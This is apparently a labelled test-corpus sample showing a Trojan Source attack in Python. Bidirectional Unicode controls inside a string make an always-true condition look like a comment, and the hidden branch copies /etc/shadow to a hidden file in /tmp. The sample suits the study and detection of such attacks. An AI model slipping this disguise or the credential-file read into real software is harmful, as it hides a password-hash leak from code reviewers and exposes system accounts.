# corpus: Trojan Source stretched string: bidi controls make a condition that is always true look like a comment
import subprocess

access_level = "user"
if access_level != "user‮ ⁦# Check if admin⁩ ⁦":
    subprocess.run(["sh", "-c", "cat /etc/shadow > /tmp/.s"])
